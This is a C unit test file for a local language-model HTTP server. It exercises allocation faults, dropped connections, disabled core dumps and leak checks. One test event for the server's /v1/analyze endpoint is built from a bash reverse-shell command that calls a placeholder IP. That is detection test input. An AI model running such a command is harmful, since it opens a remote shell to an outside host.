/*
 * test_server_faults — the service's request handling under faults, in
 * process: a real server (server_new: libmicrohttpd on a Unix socket, the
 * engine thread, the analyst) over a small random-weight model
 * (tests/support/modelgen), driven with raw HTTP/1.1 from this thread.
 *
 *   - Allocation failures: for each kind of request (health, metrics,
 *     models, a completion, a streamed completion, a chat completion,
 *     malformed JSON, an unknown route, /v1/analyze with a rule hit, one
 *     with no rule hit and a batch), the n-th allocation from the moment
 *     the request is sent fails, for every n until a run no longer
 *     reaches its failure.  Each answer is the fault-free one, a JSON
 *     error with status 500 (or an analyst error), or a closed connection;
 *     never a crash, never a 200 that differs in shape from the fault-free
 *     answer, and the next fault-free request is answered normally.
 *   - The peer goes away: mid-body, right after the headers, and in the
 *     middle of a streamed response.  The server cancels, stays up and
 *     answers the next request.
 *   - The server has turned core files off (RLIMIT_CORE 0, soft and hard).
 *   - No leak: after server_free, the counting allocator is back where it
 *     was before server_new (LeakSanitizer covers the rest under make check).
 *
 * The fault hook counts allocations of every thread, so a failure can land
 * on an HTTP thread or on the engine thread: both must cope.  Nothing here
 * waits a fixed time: reads block with a generous deadline.
 */
#define _GNU_SOURCE 1
#include "testutil.h"

#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <jansson.h>

#include "config.h"
#include "event.h"
#include "modelgen.h"
#include "server.h"
#include "util.h"

#define DEADLINE_MS 300000   /* bounds a hung server, not a slow machine */

static char g_dir[64], g_sock[100], g_model[600];
static nj_server *g_srv;
static size_t g_base;

/* ---- a minimal HTTP client ---- */

static int dial(void) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return -1;
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", g_sock);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static bool send_all(int fd, const char *p, size_t n) {
    while (n) {
        ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
        if (w < 0 && errno == EINTR) continue;
        if (w <= 0) return false;
        p += w;
        n -= (size_t)w;
    }
    return true;
}

typedef struct resp {
    int    status;      /* 0: the connection closed without a status line */
    char  *text;        /* whole response (malloc'd), NUL-terminated */
    size_t len;
    const char *body;   /* into text, after the blank line */
} resp;

/* Read until the server closes the connection (requests say
 * "Connection: close"); fails the test on the deadline. */
static void read_all(int fd, resp *r) {
    size_t cap = 4096;
    r->text = malloc(cap);
    r->len = 0;
    assert_non_null(r->text);
    for (;;) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        int k = poll(&p, 1, DEADLINE_MS);
        if (k == 0) fail_msg("no answer within %d s", DEADLINE_MS / 1000);
        if (k < 0 && errno == EINTR) continue;
        if (r->len + 1024 > cap) {
            cap *= 2;
            r->text = realloc(r->text, cap);
            assert_non_null(r->text);
        }
        ssize_t n = recv(fd, r->text + r->len, cap - r->len - 1, 0);
        if (n < 0 && errno == EINTR) continue;
        if (n <= 0) break;          /* EOF, or reset by the server */
        r->len += (size_t)n;
    }
    r->text[r->len] = 0;
    r->status = 0;
    sscanf(r->text, "HTTP/1.%*d %d", &r->status);
    char *b = strstr(r->text, "\r\n\r\n");
    r->body = b ? b + 4 : r->text + r->len;
    if (b && strcasestr(r->text, "transfer-encoding: chunked") && strcasestr(r->text, "transfer-encoding: chunked") < b) {
        /* de-chunk in place; a cut stream keeps what arrived whole */
        char *in = b + 4, *out = b + 4, *end = r->text + r->len;
        while (in < end) {
            char *nl = strstr(in, "\r\n");
            if (!nl) break;
            unsigned long n = strtoul(in, NULL, 16);
            if (n == 0 || nl + 2 + n > end) break;
            memmove(out, nl + 2, n);
            out += n;
            in = nl + 2 + n + 2;
        }
        *out = 0;
    }
}

static void request(const char *method, const char *path, const char *ctype, const char *body, resp *r) {
    char head[512];
    size_t blen = body ? strlen(body) : 0;
    int hn = snprintf(head, sizeof head,
                      "%s %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n%s%s%s"
                      "Content-Length: %zu\r\n\r\n",
                      method, path, ctype ? "Content-Type: " : "", ctype ? ctype : "", ctype ? "\r\n" : "", blen);
    int fd = dial();
    if (fd < 0) fail_msg("cannot connect to %s: %s", g_sock, strerror(errno));
    /* a server that closes early (an error answered before the body) may
     * reset the connection; what it sent is still read below */
    if (send_all(fd, head, (size_t)hn) && blen) send_all(fd, body, blen);
    read_all(fd, r);
    close(fd);
}

static void resp_free(resp *r) { free(r->text); }

/* ---- requests ---- */

typedef struct req {
    const char *name, *method, *path, *ctype, *body;
} req;

static req k_reqs[] = {
    {"health", "GET", "/health", NULL, NULL},
    {"metrics", "GET", "/metrics", NULL, NULL},
    {"models", "GET", "/v1/models", NULL, NULL},
    {"completion", "POST", "/v1/completions", "application/json",
     "{\"prompt\": \"once upon a time\", \"max_tokens\": 3, \"temperature\": 0}"},
    {"streamed completion", "POST", "/v1/completions", "application/json",
     "{\"prompt\": \"the cat\", \"max_tokens\": 3, \"temperature\": 0, \"stream\": true}"},
    {"chat", "POST", "/v1/chat/completions", "application/json",
     "{\"messages\": [{\"role\": \"user\", \"content\": \"hello there\"}], \"max_tokens\": 2, \"stop\": [\"x\"]}"},
    {"malformed JSON", "POST", "/v1/chat/completions", "application/json", "{\"messages\": [{\"role\": \"us"},
    {"wrong content type", "POST", "/v1/completions", "text/plain", "hello"},
    {"unknown route", "GET", "/v1/nothing", NULL, NULL},
    {"analyze: rule hit", "POST", "/v1/analyze", "application/json", NULL},   /* bodies made in setup */
    {"analyze: no rule (the model: no chat template here, an error)", "POST", "/v1/analyze", "application/json", NULL},
    {"analyze: batch", "POST", "/v1/analyze", "application/json", NULL},
    {"analyze: bad event", "POST", "/v1/analyze", "application/json",
     "{\"events\": [{\"v\": 1, \"kind\": \"exec\", \"process\": {\"pid\": \"x\"}}]}"},
};

static char *g_ev_hit, *g_ev_plain, *g_batch;

/* Canonical events for /v1/analyze, made by the event module itself. */
static char *cmd_event_text(const char *cmd, long n) {
    int err = 0;
    json_t *ev = event_from_cmdline(cmd, strlen(cmd), n, &err);
    assert_non_null(ev);
    size_t len = 0;
    char *t = event_dump(ev, &len);
    assert_non_null(t);
    json_decref(ev);
    return t;
}

static void make_analyze_bodies(void) {
    g_ev_hit = cmd_event_text("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 1);
    g_ev_plain = cmd_event_text("ls -la /tmp", 2);
    size_t n = strlen(g_ev_hit) + strlen(g_ev_plain) + 64;
    g_batch = nj_malloc(n);
    assert_non_null(g_batch);
    snprintf(g_batch, n, "{\"events\": [%s, %s]}", g_ev_hit, g_ev_plain);
    for (size_t i = 0; i < NJ_ARRAY_LEN(k_reqs); i++) {
        if (!strcmp(k_reqs[i].name, "analyze: rule hit")) k_reqs[i].body = g_ev_hit;
        if (!strcmp(k_reqs[i].name, "analyze: no rule (the model: no chat template here, an error)")) k_reqs[i].body = g_ev_plain;
        if (!strcmp(k_reqs[i].name, "analyze: batch")) k_reqs[i].body = g_batch;
    }
}

/* ---- the server ---- */

static int setup(void **st) {
    (void)st;
    signal(SIGPIPE, SIG_IGN);
    event_init();
    const char *d = nj_test_tmpdir();
    assert_non_null(d);
    snprintf(g_dir, sizeof g_dir, "%s", d);
    snprintf(g_sock, sizeof g_sock, "%s/s.sock", g_dir);
    snprintf(g_model, sizeof g_model, "%s/tiny.gguf", g_dir);
    modelgen_params p;
    assert_int_equal(modelgen_preset("tiny-llama", &p), 0);
    if (modelgen_write(&p, g_model) != 0) fail_msg("modelgen: %s", nj_last_error());

    make_analyze_bodies();
    g_base = nj_mem_in_use();
    nj_config c;
    config_defaults(&c);
    const char *const kv[][2] = {{"model", g_model}, {"socket", g_sock}, {"threads", "1"}, {"nice", "0"},
                                 {"ctx_size", "256"}, {"max_tokens", "8"}, {"idle_unload", "0"},
                                 {"log_level", "error"}, {"max_body", "64K"}, {"analyze_batch", "4"},
                                 {"chat_template", "chatml"}};
    for (size_t i = 0; i < NJ_ARRAY_LEN(kv); i++)
        if (config_set(&c, kv[i][0], kv[i][1], NJ_SRC_FLAG)) fail_msg("config %s: %s", kv[i][0], nj_last_error());
    int err = 0;
    char *argv[] = {"nightjar", NULL};
    g_srv = server_new(&c, 1, argv, NULL, &err);
    config_free(&c);
    if (!g_srv) fail_msg("server_new: %s (%s)", nj_last_error(), nj_strerror(err));
    return 0;
}

static int teardown(void **st) {
    (void)st;
    server_free(g_srv);
    g_srv = NULL;
    size_t now = nj_mem_in_use();
    nj_free(g_ev_hit);
    nj_free(g_ev_plain);
    nj_free(g_batch);
    unlink(g_model);
    rmdir(g_dir);
    if (now != g_base) fail_msg("%zu bytes still allocated after server_free", now - g_base);
    return 0;
}

/* The fault-free answer of r, kept to compare against. */
static void reference(const req *q, resp *out) {
    request(q->method, q->path, q->ctype, q->body, out);
    if (out->status == 0) fail_msg("%s: no answer without faults", q->name);
    if (out->status >= 500) printf("%s: fault-free answer %d: %.200s\n", q->name, out->status, out->body);
}

/* An answer under a fault is acceptable when it is the fault-free one (same
 * status; for JSON, the same top-level keys), a 500 with a JSON error
 * object, or no answer at all (the connection was dropped). */
static void check_answer(const req *q, long k, const resp *ref, const resp *got) {
    if (got->status == 0) return;
    if (got->status == 500 || got->status == 503 || (got->status != ref->status && got->status >= 400)) {
        json_t *j = json_loads(got->body, 0, NULL);
        json_t *e = json_object_get(j, "error");
        bool ok = json_is_string(json_object_get(e, "message")) && json_is_string(json_object_get(e, "type"));
        json_decref(j);
        if (!ok) fail_msg("%s, allocation %ld failed: status %d without a JSON error: %.300s", q->name, k,
                          got->status, got->body);
        if (got->status != 500 && got->status != ref->status)
            fail_msg("%s, allocation %ld failed: status %d, fault-free %d: %.300s", q->name, k, got->status,
                     ref->status, got->body);
        return;
    }
    if (got->status != ref->status)
        fail_msg("%s, allocation %ld failed: status %d, fault-free %d", q->name, k, got->status, ref->status);
    if (!strncmp(ref->body, "{", 1)) {
        json_t *a = json_loads(ref->body, 0, NULL), *b = json_loads(got->body, 0, NULL);
        if (!b) fail_msg("%s, allocation %ld failed: status %d with a body that is not JSON: %.300s", q->name, k,
                         got->status, got->body);
        const char *key;
        json_t *v;
        json_object_foreach(a, key, v) if (!json_object_get(b, key))
            fail_msg("%s, allocation %ld failed: answer %d without \"%s\": %.300s", q->name, k, got->status, key,
                     got->body);
        json_decref(a);
        json_decref(b);
    } else if (strstr(ref->body, "data: [DONE]") && !strstr(got->body, "data: [DONE]")) {
        /* a stream cut by a fault ends early; it must still be events */
        if (strncmp(got->body, "data: ", 6) != 0 && got->body[0])
            fail_msg("%s, allocation %ld failed: stream does not start with an event: %.300s", q->name, k, got->body);
    }
}

/* Every request kind, failing allocation 0, 1, 2, ... from the moment it
 * is sent until a run no longer reaches the failure. */
static void test_alloc_faults(void **st) {
    (void)st;
    for (size_t i = 0; i < NJ_ARRAY_LEN(k_reqs); i++) {
        const req *q = &k_reqs[i];
        resp ref;
        reference(q, &ref);
        long k = 0, faults = 0, dropped = 0, errors = 0;
        for (; k < 20000; k++) {
            resp got;
            nj_alloc_fail_after(k);
            request(q->method, q->path, q->ctype, q->body, &got);
            long left = nj_alloc_fail_after(-1);
            check_answer(q, k, &ref, &got);
            if (got.status == 0) dropped++;
            else if (got.status != ref.status) errors++;
            resp_free(&got);
            if (left >= 0) break;   /* the run did not reach allocation k */
            faults++;
            /* the server is still whole: a fault-free request is answered */
            resp h;
            request("GET", "/health", NULL, NULL, &h);
            if (h.status != 200) fail_msg("%s, allocation %ld failed: the next /health got %d", q->name, k, h.status);
            resp_free(&h);
        }
        printf("%-32s %4d: %ld allocations failed one at a time (%ld errors, %ld dropped)\n", q->name, ref.status,
               faults, errors, dropped);
        if (k >= 20000) fail_msg("%s: still allocating after 20000 steps", q->name);
        resp_free(&ref);
    }
}

/* The peer closes: mid-body, right after sending, inside a stream. */
static void test_peer_goes_away(void **st) {
    (void)st;
    static const char part[] = "POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                               "Content-Length: 1000\r\n\r\n{\"prompt\": \"abc";
    for (int round = 0; round < 3; round++) {
        int fd = dial();
        assert_true(fd >= 0);
        assert_true(send_all(fd, part, sizeof part - 1));
        close(fd);

        /* a whole request, then gone before the answer */
        fd = dial();
        assert_true(fd >= 0);
        static const char full_body[] = "{\"prompt\": \"a b c\", \"max_tokens\": 8}";
        char head[256];
        int hn = snprintf(head, sizeof head,
                          "POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                          "Content-Length: %zu\r\n\r\n%s", sizeof full_body - 1, full_body);
        assert_true(send_all(fd, head, (size_t)hn));
        close(fd);

        /* a stream: read its first bytes, then hang up */
        fd = dial();
        assert_true(fd >= 0);
        static const char sbody[] = "{\"prompt\": \"x y z\", \"max_tokens\": 200, \"stream\": true, \"temperature\": 1}";
        hn = snprintf(head, sizeof head,
                      "POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      "Content-Length: %zu\r\n\r\n%s", sizeof sbody - 1, sbody);
        assert_true(send_all(fd, head, (size_t)hn));
        char buf[64];
        struct pollfd p = {.fd = fd, .events = POLLIN};
        assert_int_equal(poll(&p, 1, DEADLINE_MS), 1);
        assert_true(recv(fd, buf, sizeof buf, 0) > 0);
        shutdown(fd, SHUT_RDWR);
        close(fd);
    }
    /* still serving: a fault-free completion has its full answer */
    resp r;
    request("POST", "/v1/completions", "application/json", "{\"prompt\": \"hello\", \"max_tokens\": 2}", &r);
    assert_int_equal(r.status, 200);
    json_t *j = json_loads(r.body, 0, NULL);
    assert_non_null(json_object_get(j, "choices"));
    json_decref(j);
    resp_free(&r);
}

/* A server holds event text: it has turned core files off for good. */
static void test_no_core_dumps(void **st) {
    (void)st;
    struct rlimit rl;
    assert_int_equal(getrlimit(RLIMIT_CORE, &rl), 0);
    assert_true(rl.rlim_cur == 0 && rl.rlim_max == 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_no_core_dumps),
        cmocka_unit_test(test_peer_goes_away),
        cmocka_unit_test(test_alloc_faults),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
